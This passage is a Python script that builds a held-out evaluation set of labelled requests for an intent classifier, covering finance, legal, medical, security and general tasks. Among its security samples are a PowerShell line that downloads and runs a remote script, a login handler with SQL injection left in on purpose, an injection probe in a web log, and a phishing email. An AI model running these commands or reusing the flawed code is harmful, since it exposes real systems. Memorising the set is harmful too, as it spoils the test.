"""Fifth independent hand-written EVALUATION set (writes ``fresh5.jsonl``).

HELD OUT -- NEVER TRAIN ON THIS FILE. ``fresh5.jsonl`` is an acceptance-style
evaluation set for the intent service; it must not be read by
``services.intent.train``/``tune`` or used for error analysis that feeds
training data, or it stops measuring generalisation.

Written by an author who did not read the other corpora's rows (only the row
format and helpers of ``train_diverse2_source.py``) and never ran the
classifier on these rows. It aims at what an acceptance tester would write
for the issue "realistic, varied requests across all intents and domains":
terse and long asks, pasted emails, logs, code, contracts, clinical notes,
60+ multi-task requests chained in many ways, PII of every type in varied
formats, and hard negatives (order/invoice/ticket ids, version strings,
16-digit numbers failing Luhn, IBAN-shaped strings with a wrong checksum,
bad NRIC letters, dates, amounts) that carry no PII.

Label guide (same as the other sets): domain is whose expert you would ask --
personal money, tax, insurance cover, prices, budgets, accounting, markets ->
finance; rights, disputes, appeals, contracts, compliance, employment law ->
legal; symptoms, drugs, care, clinical notes, health records -> medical;
accounts, attacks, phishing, malware, access control, vulnerabilities ->
security; office, social, creative or technical-but-not-security asks that
only mention such words -> general. A neutral task ("summarise this") takes
the domain of the material it acts on.

Row mini-language (one row per line in the blocks below):

* single task: ``<intent> <d> [flags] | <text>``
* multi task:  ``<intent> <d> [flags] => <clause> ;; ... || <text>`` -- every
  clause must occur verbatim in the request text.
* a leading ``!`` marks a hard-negative row (PII-shaped strings, no PII).
* domain codes g/f/l/m/s; flags: ``M``/``H`` complexity (default low),
  ``I``/``C``/``R`` sensitivity floor, ``calc``/``ret``/``web``/``exec`` tools
  (math always gets the calculator).
* ``{NAME}`` appends pasted material after a blank line; ``\\n`` is a newline.
* PII inline: ``[[P:name]]`` PERSON, ``[[E:addr]]`` EMAIL, ``[[T:num]]`` PHONE,
  ``[[IP:addr]]`` IP_ADDRESS, ``[[SSN:ddd-dd-dddd]]`` US_SSN; generated valid
  values ``[[CC:visa|mc|amex|disc|mc2:s|d|n]]`` (space/dash/no separator),
  ``[[IBAN:CC:s|n]]``, ``[[NRIC:S|T|F|G]]``; generated hard negatives
  ``[[BADCC:s|d|n]]``, ``[[BADIBAN:CC:s|n]]``, ``[[BADNRIC]]`` (not PII).

Sensitivity: public by default, raised by material, by flags, by any PII
(confidential) and by cards/IBANs/SSNs/NRICs (restricted); all tasks of a row
share the row's floor. Usage: ``python tests/data/intent/fresh5_source.py``.
"""

# ruff: noqa: E501  (data tables: long literal phrasings read better unwrapped)

from __future__ import annotations

import json
import random
import re
import sys
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parents[2]))

import pii_values as pv  # noqa: E402
from contexts import mark  # noqa: E402
from generate import strip_marks  # noqa: E402

_DOMAIN = {
    "g": "general",
    "f": "finance",
    "l": "legal",
    "m": "medical",
    "s": "security",
}
_SENS = {"I": "internal", "C": "confidential", "R": "restricted"}
_TOOLS = {
    "calc": "calculator",
    "ret": "retrieval",
    "web": "browsing",
    "exec": "code_execution",
}
_LEVEL = ["public", "internal", "confidential", "restricted"]
_PII_LEVEL = {"CREDIT_CARD": 3, "IBAN": 3, "US_SSN": 3, "SG_NRIC": 3}

# pasted material: name -> (text, sensitivity of the material itself)
_MATERIAL: dict[str, tuple[str, str]] = {
    "INVOICE": (
        "INVOICE INV-2024-03318\nNorthwind Office Supplies Ltd\nBill to: Halden Design Studio\nIssue date: 02 May 2024   Due: 01 Jun 2024\n40x A4 copier paper boxes   @ 21.50   860.00\n6x ergonomic chairs          @ 189.00  1,134.00\nDelivery                                  45.00\nSubtotal 2,039.00  VAT 20% 407.80  TOTAL GBP 2,446.80\nPay to: [[IBAN:GB:s]]  ref INV-2024-03318",
        "internal",
    ),
    "QUARTER": (
        "Q2 vs Q1 (EUR k)\nRevenue        4,120   3,870\nCOGS           2,610   2,290\nGross profit   1,510   1,580\nOpex           1,240   1,205\nEBIT             270     375\nNote: freight costs +31%, two large discounted renewals in June.",
        "internal",
    ),
    "STATEMENT": (
        "02 Mar  SPOTIFY P0A1F3           -11.99\n04 Mar  UBER *TRIP                 -23.40\n05 Mar  SALARY ACME GMBH        +3,215.00\n07 Mar  REWE SAGT DANKE           -86.12\n09 Mar  AMAZON MKTPLACE           -142.50\n11 Mar  MIETE DAUERAUFTRAG      -1,150.00\n14 Mar  SHELL 3321                -64.80\n18 Mar  APOTHEKE AM MARKT         -18.35\n21 Mar  AMAZON MKTPLACE           -39.99\n28 Mar  ZINSEN                      +2.14",
        "confidential",
    ),
    "NDA": (
        "7. Term and Termination. This Agreement shall commence on the Effective Date and continue for two (2) years. Either party may terminate on thirty (30) days' written notice. The obligations in Section 4 (Confidential Information) survive termination for five (5) years.\n8. Remedies. The Receiving Party acknowledges that breach may cause irreparable harm and that the Disclosing Party shall be entitled to seek injunctive relief without posting bond.\n9. Governing Law. This Agreement is governed by the laws of the State of Delaware; the parties submit to the exclusive jurisdiction of its courts.",
        "internal",
    ),
    "LEASE": (
        "Clause 14 - Deposit. The Tenant shall pay a deposit of five weeks' rent. The Landlord may deduct from the deposit the reasonable cost of repairing damage beyond fair wear and tear, any unpaid rent, and professional cleaning if the Property is not returned in the condition recorded at check-in.\nClause 15 - Break. Either party may end this tenancy after month six by giving two months' notice in writing.",
        "public",
    ),
    "DISMISS": (
        "From: [[P:Karen Whitfield]] <[[E:k.whitfield@brightline-logistics.co.uk]]>\nTo: [[P:Tomasz Nowak]]\nSubject: Outcome of meeting\n\nTomasz, further to today's meeting I confirm that your employment is terminated with immediate effect for gross misconduct (repeated lateness). You will be paid up to today. You have no right of appeal. Please return your badge and laptop by Friday.",
        "confidential",
    ),
    "DISCHARGE": (
        "DISCHARGE SUMMARY\nPatient: [[P:Margaret Ellison]]  DOB 14/02/1949\nAdmitted with community-acquired pneumonia (right lower lobe). Treated with IV co-amoxiclav and clarithromycin, switched to oral amoxicillin day 3. O2 weaned off day 4. Known AF on apixaban 5 mg BD, continued. Penicillin allergy: none known.\nDischarge meds: amoxicillin 500 mg TDS for 3 more days, apixaban 5 mg BD, bisoprolol 2.5 mg OD.\nFollow-up: chest X-ray in 6 weeks via GP; return if breathless or fever recurs.",
        "confidential",
    ),
    "TRIAL": (
        "Background: Whether a structured walking programme reduces HbA1c in adults with type 2 diabetes is uncertain. Methods: 412 adults were randomised to 12 weeks of supervised brisk walking (150 min/week) or usual care. Results: mean HbA1c fell by 0.4 percentage points more in the walking group (95% CI 0.2 to 0.6). Adherence dropped to 58% by week 12. No serious adverse events. Conclusion: modest benefit; long-term adherence is the main barrier.",
        "public",
    ),
    "HANDOVER": (
        "Bed 4 - [[P:Derek Olsen]], 71, day 2 post left hip replacement. Pain 6/10 on oxycodone PRN, last dose 14:00. Hb 92 this am (from 118). Catheter in, UO 30 ml/h. Mobilised to chair with physio. Confused overnight, daughter says new. Needs: repeat FBC, watch for delirium, encourage fluids.",
        "confidential",
    ),
    "AUTHLOG": (
        "Mar 12 02:14:07 vpn-gw1 sshd[2211]: Failed password for invalid user admin from [[IP:45.134.26.91]] port 51122\nMar 12 02:14:09 vpn-gw1 sshd[2211]: Failed password for invalid user oracle from [[IP:45.134.26.91]] port 51130\nMar 12 02:14:12 vpn-gw1 sshd[2213]: Failed password for root from [[IP:45.134.26.91]] port 51141\nMar 12 02:31:55 vpn-gw1 sshd[2301]: Accepted publickey for deploy from [[IP:10.20.4.17]] port 40022\nMar 12 02:32:40 vpn-gw1 sudo: deploy : TTY=pts/0 ; COMMAND=/bin/bash",
        "confidential",
    ),
    "NGINX": (
        '[[IP:2a02:6b8:c0e:500:1::3]] - - [03/Jun/2024:10:11:02 +0000] "GET /wp-login.php HTTP/1.1" 404 153\n[[IP:2a02:6b8:c0e:500:1::3]] - - [03/Jun/2024:10:11:03 +0000] "GET /.env HTTP/1.1" 404 153\n[[IP:2a02:6b8:c0e:500:1::3]] - - [03/Jun/2024:10:11:03 +0000] "GET /api/v1/users?id=1%27%20OR%201=1-- HTTP/1.1" 500 612\n[[IP:198.51.100.23]] - - [03/Jun/2024:10:12:40 +0000] "GET /pricing HTTP/1.1" 200 8812',
        "confidential",
    ),
    "PHISH": (
        'Subject: Action required: your mailbox will be suspended\nFrom: "IT Service Desk" (micros0ft-support365.com)\n\nDear user, we detected unusual sign-in activity. Your mailbox will be suspended within 24 hours unless you verify your account. Click here to keep your mailbox: hxxps://login-m365-verify[.]com/keep\nThank you, IT Team',
        "public",
    ),
    "INCIDENT": (
        "INC summary (draft): On 9 May at 03:40 UTC the EDR flagged rundll32 spawning from an Excel macro on FIN-LT-022. The user had opened 'Remittance_May.xlsm' from an external sender. The host beaconed to cdn-update[.]info every 60s for 35 minutes before isolation. No lateral movement found; credentials of the user were reset; 14 other recipients were identified, 2 opened the file, both hosts clean. Root cause: macros allowed for files from the internet on the finance OU.",
        "internal",
    ),
    "MINUTES": (
        "Ops weekly - 4 June\nAttendees: Lina, Marco, Priyanka, Sam\n- Warehouse move slips to 15 July; Marco to confirm the new date with the landlord by Fri\n- New rota tool: Priyanka to run a pilot with the night shift, report back 18 June\n- Printer on 2nd floor still jammed: Sam to chase facilities\n- Summer party budget approved; Lina to send a poll for dates",
        "internal",
    ),
    "REVIEWS": (
        '1. "Arrived two days late and the box was crushed, but the kettle works fine."\n2. "Absolutely love it. Fast, quiet, looks great on the counter!!"\n3. "Stopped working after 3 weeks. Support never replied. Never again."\n4. "It\'s ok. Does the job. A bit pricey for what it is."\n5. "Gift for my mum, she\'s thrilled :)"',
        "public",
    ),
    "PYCODE": (
        "```python\ndef average_order_value(orders):\n    total = 0\n    for o in orders:\n        total += o['amount']\n    return total / len(orders)\n\nprint(average_order_value([]))\n```",
        "internal",
    ),
    "LOGIN": (
        "```python\n@app.route('/login', methods=['POST'])\ndef login():\n    user = db.execute(f\"SELECT * FROM users WHERE email = '{request.form['email']}'\").fetchone()\n    if user and user['password'] == request.form['password']:\n        session['uid'] = user['id']\n        return redirect('/home')\n    return 'Invalid login for ' + request.form['email'], 401\n```",
        "internal",
    ),
    "CLAUSE_LIAB": (
        "11.2 Except for liability arising from a party's gross negligence, wilful misconduct or breach of Clause 9 (Data Protection), each party's aggregate liability under this Agreement shall not exceed the Fees paid in the twelve (12) months preceding the claim. 11.3 Neither party shall be liable for loss of profits, revenue, goodwill or any indirect or consequential loss.",
        "public",
    ),
    "TICKETS": (
        "- 'Outlook keeps asking for my password every 5 minutes'\n- 'Got a text saying my parcel is held, link asks for card details'\n- 'Can I get Adobe Acrobat Pro installed?'\n- 'My USB stick isn't recognised by the laptop'\n- 'Someone logged into my account from Brazil at 3am'\n- 'The projector in room 4B shows no signal'\n- 'Antivirus popped up saying Trojan:Win32/Wacatac quarantined'",
        "internal",
    ),
}

FINANCE = r"""
qa f | what's the actual difference between a Roth IRA and a traditional IRA
qa f | why does closing an old credit card hurt my credit score? seems backwards
qa f | ETF vs index mutual fund - in plain english pls, which has lower costs and why
qa f | what is an escrow account on a mortgage and why is mine going up
qa f | Does travel insurance normally cover cancelling because my kid got sick the day before?
qa f | how is capital gains tax worked out when I sell shares I've held for three years (UK)
qa f | what's the difference between the excess and the premium on car insurance
qa f | What does "dollar-cost averaging" mean?
qa f | why do bond prices fall when interest rates rise
qa f | is a 0% balance transfer card a trap or actually useful
qa f web | what's the Bank of England base rate today?
qa f web | where is the EUR/USD exchange rate right now and how has it moved this week
qa f ret | what's our company per diem for meals on trips to Singapore?
qa f ret | according to our finance handbook, who has to approve a purchase order over 25k?
math f | I borrowed 12,000 at 6.9% APR over 4 years. what's the monthly repayment?
math f | If I put 300 a month into an account paying 4% compounded monthly, how much will I have after 10 years?
math f | the price is 84.99 including 20% VAT, what is it before VAT
math f | rent went up from 1,350 to 1,480 a month. what % increase is that
math f | revenue 2.4M, COGS 1.56M - gross margin?
math f | 2,500 EUR to GBP at 0.853, minus a 1.5% conversion fee. how much lands in my account
math f M | we sell a widget for $18, variable cost is $11 per unit and fixed costs are $19,000 a month. break-even units? and profit at 3,400 units?
math f | whats 1.5% a month as an effective annual rate
math f | a bond pays a 5% coupon on 1,000 face value and trades at 940 - current yield?
reasoning f M | should i pay off my student loan early (4.5%) or put the extra £400/month into an index fund? I'm 29, no other debt
reasoning f M | We're a 12-person agency. Lease or buy the two company vans? Cash is fine but we like flexibility.
reasoning f M | my employer matches 50% up to 6% and I'm only putting in 3%. I also have 3k on a credit card at 22%. what should I prioritise?
reasoning f H calc | Help me think through fixed vs tracker mortgage. 250k over 25 years, 2-year fix at 4.79% vs tracker at base+0.6%. I can absorb maybe 200/month extra if rates rise. Walk through the scenarios and tell me which you'd pick and why.
reasoning f M | why would a profitable company run out of cash? explain with an example
draft f | write a short memo to staff explaining the new expense approval limits: under 500 the line manager signs off, above 500 it goes to the finance director
draft f | draft a letter to HMRC asking to set up a time-to-pay arrangement for my self assessment bill of £4,870
draft f | email to our accountant asking which receipts she needs from me for the quarterly VAT return
draft f | Can you write a note to my insurer asking them to explain why my home insurance premium went up 38% at renewal when I made no claims
summarize f I | summarise this for the finance committee in three bullets{QUARTER}
summarize f | tl;dr this please - "Shares of the retailer fell 9% after it cut full-year guidance, citing weaker consumer spending and higher freight costs. The company now expects EPS of $2.10-2.25, down from $2.60. Management said it would slow store openings and buy back $500m of stock."
summarize f | boil this down to what I'm actually covered for: "Section 3: We will pay for accidental damage to your contents up to £2,500 per item. We will not pay for damage caused by pets, wear and tear, or gradual deterioration. Items over £2,500 must be listed on your schedule. Personal possessions away from home are covered only if you have selected the Away From Home add-on."
extract f | list every outgoing payment over 50 with date and merchant{STATEMENT}
extract f I | pull the invoice number, due date, VAT amount and total out of this as JSON{INVOICE}
classify f | categorise my spending into groceries / transport / subscriptions / rent / shopping / health{STATEMENT}
classify f | Put each of these into capex or opex: new laptops for 30 staff, office cleaning contract, server rack, annual software licence, building an extension to the warehouse, printer paper
sentiment f | how does this customer feel about us? "I've banked with you 15 years and you charged me £35 for going 2 quid overdrawn. Unbelievable. Looking at other banks now."
sentiment f | is this analyst note bullish or bearish overall: "While near-term margins remain under pressure, we see the cost programme and the new pricing tier as underappreciated; we reiterate Buy with a reduced target of $64."
translate f | translate into German please: "Your payment of €250 has been received. The next instalment is due on 1 March."
translate f | can you put this into English, it's from my French tax office: "Vous êtes redevable d'un montant de 312 euros au titre de la taxe d'habitation sur les résidences secondaires. Ce montant doit être réglé avant le 15 décembre."
translate f | how do I say "the invoice is overdue, please pay within seven days" in Spanish
qa f | whats a good debt to income ratio
reasoning f M calc | inflation is 3% and my savings account pays 4.2% but I pay 20% tax on interest. am I actually gaining anything?
draft f | write a two-line reminder to a client that invoice 1142 is 30 days overdue, friendly but firm
qa f | What's the point of an emergency fund if I have a credit card
"""

LEGAL = r"""
qa l | can my landlord keep my whole deposit for a few scuffs on the walls?
qa l | whats the difference between a warranty and an indemnity in a contract
qa l | Is a verbal agreement legally binding in England?
qa l | how much notice does my employer have to give me before changing my shift pattern
qa l | What does "without prejudice" at the top of a letter mean
qa l | can I be fired for something I posted on my personal instagram? I'm in Texas
qa l | what's the 72 hour rule in GDPR
qa l | do I need a lawyer for small claims court or can I do it myself
qa l | if I work from home in Spain for a UK company, which country's employment law applies to me?
qa l | what is a non-compete clause and are they enforceable in California
qa l ret | what does our standard MSA template say about liability caps?
qa l web | has the EU AI Act been published in the Official Journal yet, and when do the first obligations apply?
reasoning l M | My neighbour's tree roots cracked my driveway. Is it worth going to court or should I try mediation first?
reasoning l M | we used a freelancer's logo for two years without any written assignment. who owns the copyright and what should we do now?
reasoning l M | our supplier missed delivery three times this quarter. under this clause can we terminate, or do we have to give them a chance to fix it first? "15.1 Either party may terminate this Agreement with immediate effect if the other party commits a material breach which is irremediable or, if remediable, is not remedied within 30 days of written notice."
reasoning l H | I'm setting up a small bakery with a friend. Compare a partnership, an LLP and a limited company from a personal liability point of view, what happens if one of us wants out, and what agreements we should sign from day one.
reasoning l M | is this clause enforceable? the gym says I can't cancel for 24 months even though I moved abroad
draft l | draft a letter appealing my parking fine - the signs were covered by scaffolding
draft l | write a subject access request under GDPR to a company that keeps emailing me, asking for all the data they hold on me
draft l H | draft a mutual NDA for a two-week pilot with a startup, Singapore law, 3 year confidentiality
draft l | need a firm but polite cease and desist email to someone selling prints of our photos on Etsy without permission
draft l | write a formal complaint to the airline asking for EU261 compensation, flight delayed 5 hours, Lisbon to Berlin
summarize l | explain this clause in plain English in 2-3 sentences{CLAUSE_LIAB}
summarize l | give me the short version of this tenancy section{LEASE}
summarize l I | summarise what this NDA says about how long it lasts and what happens if someone breaches it{NDA}
extract l I | list every time period and deadline mentioned in this agreement{NDA}
extract l | who are the parties, what's the effective date and which law governs? "This Services Agreement is made on 3 April 2024 between Kestrel Analytics Pte. Ltd., a company incorporated in Singapore, and Morrow & Finch LLP, a limited liability partnership registered in England and Wales. This Agreement is governed by the laws of Singapore."
classify l | tag each of these as a consumer, employment or data-protection issue: 1) my boss reads my private WhatsApp on the work phone 2) shop won't refund a faulty TV 3) got sacked the week after announcing my pregnancy 4) a company sold my email address to marketers
classify l | For a buyer, rate each clause green/amber/red: (a) 30 day payment terms (b) seller may change specs without notice (c) liability capped at 10% of fees (d) auto-renews for 3 years unless cancelled 180 days before
sentiment l | is the tone of this letter from the other side's solicitors hostile or conciliatory? "Our client remains willing to resolve this matter amicably and without recourse to litigation, provided that the outstanding sum is paid within 14 days."
translate l | translate this into Spanish: "The Tenant may not sublet the Property or any part of it without the prior written consent of the Landlord."
translate l | Übersetze bitte ins Englische: "Der Arbeitnehmer verpflichtet sich, über alle Betriebs- und Geschäftsgeheimnisse auch nach Beendigung des Arbeitsverhältnisses Stillschweigen zu bewahren."
math l | The limitation period is six years from the breach on 14 March 2019. What's the last day to file?
math l | statutory redundancy: 41 years old, 9 full years of service, weekly pay capped at £700. 1 week per year from age 22-40, 1.5 weeks per year aged 41+. how much?
qa l | what's the difference between a patent and a trademark
reasoning l M | my tenancy says no pets but the landlord verbally said a cat was fine. he's now threatening eviction. how strong is my position?
draft l | write the wording for a cookie consent banner that complies with UK GDPR / PECR
qa l | can a company refuse to give me my personnel file
"""

MEDICAL = r"""
qa m | what's the difference between type 1 and type 2 diabetes
qa m | can I take ibuprofen if I'm on amlodipine for blood pressure?
qa m | why does my knee swell up after running
qa m | how long are you contagious with flu
qa m | what does a high TSH mean on a blood test
qa m | Is it normal to feel dizzy the first week on sertraline?
qa m | what are the warning signs of a stroke
qa m | how does a statin actually lower cholesterol
qa m | does a tetanus jab really last ten years
qa m ret | what's our clinic's protocol after a needle-stick injury?
qa m web | is there currently a measles outbreak in London? what are the latest case numbers
reasoning m M | my dad is 78 and keeps falling at night. what could be causing it and what should we ask his doctor to check first?
reasoning m M | Patient with central chest pain 2 hours, ECG normal, first troponin normal. Discharge or keep for a repeat troponin? walk me through it
reasoning m H | 34F, 3 months of fatigue, weight gain, feeling cold, constipation, heavy periods. Build a differential, say which tests you'd order first and why, and what would change management.
reasoning m M | I've had a headache every morning for two weeks that eases by lunch. should I worry, and what might cause that pattern?
math m | child weighs 18 kg, paracetamol dose 15 mg/kg - how many mg, and how many ml of 120 mg/5 ml suspension?
math m | BMI for 1.68 m and 82 kg?
math m | 1000 ml IV over 8 hours. ml per hour? and drops per minute with a 20 drops/ml giving set
math m | if a drug's half-life is 6 hours, what fraction is left after 24 hours
draft m | write a short letter to my GP asking for a dermatology referral for a mole that has changed shape
draft m H | draft a one-page patient leaflet on how to use an inhaler with a spacer, for adults with low literacy
draft m | write an email to parents at the nursery explaining that there's been a case of chickenpox and what symptoms to look out for
summarize m C | summarise this discharge summary for the family in simple, non-medical words{DISCHARGE}
summarize m | summarise this abstract in two sentences{TRIAL}
extract m C | list every medicine with its dose and frequency{DISCHARGE}
extract m | pull out the sample size, intervention, main result and adherence from this abstract as JSON{TRIAL}
classify m | triage these patient portal messages as urgent / routine / admin:\n- "my repeat prescription hasn't been sent to the pharmacy"\n- "sudden weakness in my left arm and slurred speech since this morning"\n- "can I change my appointment to next week?"\n- "rash spreading since I started the new antibiotic"
classify m | Grade these side effects as mild, moderate or severe: occasional nausea; rash with lip swelling; headache relieved by paracetamol; fainting twice in a day
sentiment m | how satisfied do these patients sound with our physio clinic? "Sarah was brilliant, my shoulder finally moves." / "Waited 40 minutes past my slot, again." / "Exercises helped but the booking system is a nightmare."
translate m | translate these instructions into Portuguese: "Take one tablet twice a day with food. Do not drink alcohol while taking this medicine. Finish the whole course."
translate m | traduce al inglés por favor: "Paciente con dolor abdominal en fosa ilíaca derecha de 12 horas de evolución, fiebre de 38,2 y leucocitosis."
summarize m C | give me a 3-line handover of this{HANDOVER}
reasoning m M C | her Hb dropped from 118 to 92 - expected after a hip replacement or should I escalate? what else in this note worries you{HANDOVER}
qa m | what is the difference between a CT scan and an MRI
qa m | are antibiotics any use for a cold
draft m | write a note for my son's school saying he has asthma and may need his inhaler during PE
math m | patient on 40 units of insulin a day wants to split it 50/50 basal and bolus, bolus equally over 3 meals - units per meal?
"""

SECURITY = r"""
qa s | what is credential stuffing
qa s | how does MFA fatigue / push bombing work
qa s | difference between a vulnerability scan and a penetration test?
qa s | why is SMS-based 2FA considered weak
qa s | What is Kerberoasting, in simple terms
qa s | what's the difference between EDR and antivirus
qa s | how do attackers use OAuth consent phishing
qa s web | is CVE-2024-3400 being actively exploited right now? any new IOCs published this week
qa s ret | who do I report a lost work laptop to, according to our security policy
reasoning s M | someone claiming to be our CEO emailed finance asking for an urgent transfer to a new supplier. how do we tell if it's real and what should they do right now?
reasoning s M | a dev pushed our .env with the Stripe and AWS keys to a public GitHub repo for about 10 minutes before deleting it. do we really need to rotate everything?
reasoning s H | plan the rollout of phishing-resistant MFA to 3,000 staff including contractors and shared shop-floor terminals. phases, risks, comms, what to do about people without smartphones
reasoning s M | brute force or misconfigured service? and should I worry about the last two lines{AUTHLOG}
reasoning s M | we keep finding admin accounts nobody owns in AD. what's the least disruptive way to clean them up without breaking stuff
code s | write a regex that matches AWS access key IDs in log lines
code s | fix the security problems in this and explain each one{LOGIN}
code s | KQL query for Sentinel: sign-ins for the same user from two countries within an hour
code s | write a bash script that lists all users with UID 0 and any account with an empty password in /etc/shadow
code s | explain what this PowerShell does, I found it in a scheduled task: powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://update-check.top/a.ps1')"
code s exec | run this against the folder and tell me which files changed: sha256sum -c baseline.sha256 --quiet
draft s | write a short warning email to all staff about fake 'mailbox suspended' emails going around
draft s M | draft the customer notification for a breach: an attacker accessed names and email addresses (no passwords or payment data) between 2 and 4 May. say what we've done and what they should do
draft s | write a password policy section for the staff handbook: length over complexity, no forced rotation, password manager encouraged
summarize s I | summarise this for the exec team, no jargon{INCIDENT}
extract s I | pull every indicator of compromise (hosts, domains, filenames, times) out of this into a table{INCIDENT}
extract s C | list the source IPs and the paths they requested{NGINX}
classify s | is this phishing, spam or legit? just the label and one reason{PHISH}
classify s | assign P1-P4 to each vuln: (1) RCE in our internet-facing VPN appliance, CVSS 9.8 (2) outdated jQuery on the marketing site (3) SMB signing not required on internal file server (4) self-signed cert on a test box
sentiment s | what's the tone of this breach statement - apologetic, defensive or evasive? "We take security seriously. A limited number of customers may have been affected by an incident at a third-party provider. There is no evidence that data has been misused."
translate s | translate this advisory into French: "Do not open attachments from unknown senders. Report suspicious emails using the Report Phish button."
math s | password entropy for 12 random characters from a 94-symbol set, and how long to brute force at 10 billion guesses a second?
math s | if 1 in 40 phishing emails gets clicked and we receive about 1,200 a month that get through, how many clicks a year should we expect
sentiment s | how do staff feel about the new MFA? "honestly takes 2 seconds, fine" / "the app logs me out every hour, driving me mad" / "don't see the point, nobody wants to hack a warehouse"
translate s | what does this Russian forum post say? "Продаю доступ к VPN крупной логистической компании, есть права администратора домена."
draft s | write a ticket for the SOC: host WS-118 beaconing every 30s to an unknown domain, please isolate and investigate
summarize s | summarise this phishing email in one line so I can paste it in the alert{PHISH}
"""

GENERAL = r"""
qa g | how do noise cancelling headphones actually work
qa g | why does my sourdough come out flat
qa g | what's the difference between RAM and storage
qa g | How many time zones does Russia have?
qa g | what's a good rule of thumb for how long a presentation slide should stay up
qa g | why do we get jet lag worse flying east
qa g | what does kubernetes actually do, explain like I'm a product manager
qa g | what's the difference between agile and scrum
qa g ret | where do I find the template for the quarterly all-hands slides?
qa g web | what's the weather going to be like in Lisbon this weekend
chat g | hi
chat g | thanks, that was really helpful!
chat g | what can you help me with?
chat g | are you a real person or a bot
chat g | good morning :) hope you're having a nice day
chat g | lol ok fair enough
chat g | can you remember what we talked about yesterday?
chat g | which model are you running on
chat g | sorry, I pasted the wrong thing, ignore that
chat g | you're a lifesaver, cheers
chat g | Hey there! First time using this, how does it work?
chat g | nevermind, figured it out
chat g | do you ever get tired of answering questions
chat g | what languages can you speak?
creative g | write a short poem for a colleague's retirement card, she's been here 31 years and loves gardening
creative g | 10 name ideas for our new internal newsletter
creative g | give me a slogan for a neighbourhood bakery that opens at 6am
creative g | bedtime story about a dragon who's scared of the dark, ~300 words, for a 5 year old
creative g | limerick about Monday morning stand-ups
creative g | some jokes I can use to open the IT offsite, nothing offensive
creative g | write a funny haiku about printers
creative g | tagline for a cybersecurity awareness week poster, something catchy
creative g | write a short rap about doing your taxes for the office talent show
creative g | name ideas for a team of accountants in a pub quiz
creative g | write a toast for my brother's wedding, he's a nurse and she's a lawyer, warm and a bit funny
creative g | invent a fantasy kingdom with three rival guilds and describe each in a paragraph
creative g | a short story opening: a lighthouse keeper finds a letter addressed to someone who died 100 years ago
code g | python function to remove duplicates from a list but keep the order
code g | fix this, it crashes when the list is empty{PYCODE}
code g | explain this bash one-liner: find . -name '*.log' -mtime +7 -exec gzip {} \;
code g | SQL: top 5 customers by total order value in 2023 from tables customers(id, name) and orders(id, customer_id, amount, created_at)
code g | regex for a UK postcode
code g | pandas: group a dataframe by region and month and sum sales, then pivot months to columns
code g | how do I make a div center both horizontally and vertically with css
code g | write a GitHub Actions workflow that runs pytest on push for python 3.11 and 3.12
code g | why does this print 3 three times? for (var i = 0; i < 3; i++) { setTimeout(() => console.log(i), 0) }
code g | convert this to a list comprehension: result = []\nfor x in nums:\n    if x % 2 == 0:\n        result.append(x * x)
code g exec | run this and tell me what it prints: print(sorted({3: 'a', 1: 'b', 2: 'c'}.items(), key=lambda kv: kv[1], reverse=True))
code g | write a Google Sheets formula that looks up the price of a product code from another tab
code g | Rust: why does the borrow checker complain when I push to a vec while iterating over it
code g | review my code for readability pls{PYCODE}
math g | a train leaves at 14:05 and arrives at 17:50, covering 312 km. average speed?
math g | what is 17% of 2,340
math g | how many square metres is a room 4.2 m by 3.65 m, and how many 0.36 m² tiles do I need with 10% spare
math g | solve 3x + 7 = 2x - 5
math g | if 40 people RSVP and we expect 15% no-shows, how many pizzas at 3 slices per person with 8 slices per pizza
math g | derivative of x^3 * ln(x)
math g | how many seconds are there in a leap year
draft g | write an email rescheduling tomorrow's 10am with the design team to Thursday, same time
draft g | out of office message, back on the 14th, contact Jamie for urgent stuff
draft g | write a LinkedIn post announcing our team won the regional innovation award, not too braggy
draft g | write an agenda for a 45 min project kickoff
draft g | rewrite this to sound more professional: "hey guys the thing is broken again, can someone pls look at it asap its kinda urgent"
draft g | Make this email shorter and clearer: "I just wanted to reach out to see whether it might perhaps be possible to move our meeting, if that works for everyone, to a slightly later time, maybe 3pm or so, since I have a clash."
draft g | a polite reply declining a vendor's invitation to their conference
summarize g I | summarise these minutes{MINUTES}
summarize g | summarise in 3 bullets{REVIEWS}
summarize g | tl;dr{BLOGPOST}
summarize g | can you condense this for a slide: "Remote work has changed how teams communicate. Meetings are shorter but more frequent, async documents have replaced hallway chats, and onboarding takes longer because new hires miss informal learning. Teams that write things down adapt best."
extract g I | pull out the action items with owner and due date{MINUTES}
extract g | get all the dates and times from this: "Rehearsal moved to Tue 11 June 18:30; dress run Fri 14 June 19:00; show nights 15 and 16 June, doors 19:15."
extract g | list all the product names and prices mentioned: "We've got the Aero 2 at 129, the Aero 2 Pro at 179, and the older Aero Lite reduced to 79 until Sunday."
classify g | label each piece of feedback as bug, feature request or question:\n- "export to PDF cuts off the last column"\n- "would love a dark mode"\n- "how do I add a second user?"\n- "the app crashes when I rotate my phone"\n- "can you integrate with Trello?"
classify g | sort these into fruit, vegetable or neither: tomato, potato, banana, mushroom, pepper, rice
classify g | put these into the Eisenhower matrix (urgent/important): reply to the client RFP due tomorrow, clean up old Slack channels, plan next quarter's OKRs, order new office chairs, fix the broken link on the homepage
sentiment g | what's the overall sentiment of these reviews, and which are negative{REVIEWS}
sentiment g | is this slack message passive aggressive or am I overthinking it? "Per my last three messages, the deck is still needed by EOD. Thanks so much!"
sentiment g | positive, negative or neutral: "The update is fine I guess, nothing special"
translate g | translate "happy birthday, hope you have a wonderful day" into Japanese
translate g | what does "je suis désolé pour le retard, le train était bloqué" mean
translate g | translate our out of office into Dutch: "I'm away until Monday 3 June with limited access to email."
translate g | Italian for "could we get the bill please"
translate g | translate this menu item into English: "Bacalhau à Brás com azeitonas"
reasoning g M | MacBook Air M3 or a ThinkPad X1 Carbon for a product manager who travels a lot and lives in Google Docs? pick one
reasoning g M | our CI build went from 6 to 19 minutes in a month. what are the likely causes and how would you investigate
reasoning g H | plan a two-day offsite for 40 people in October on a mid budget: venue criteria, agenda, travel, a rainy-day backup, and what to decide first
reasoning g M | should we rewrite the legacy PHP admin panel or keep patching it? about 40k lines, two people know it
reasoning g M | why do retrospectives at my company always turn into complaint sessions and how could we fix that
"""

_MATERIAL["BLOGPOST"] = (
    "We moved our mobile app from nightly manual releases to a weekly release train in January. Crash-free sessions rose from 98.1% to 99.4%, mostly because features now sit behind flags for a week before launch. The cost was a slower path for urgent fixes, which we solved with a separate hotfix lane that needs two approvals.",
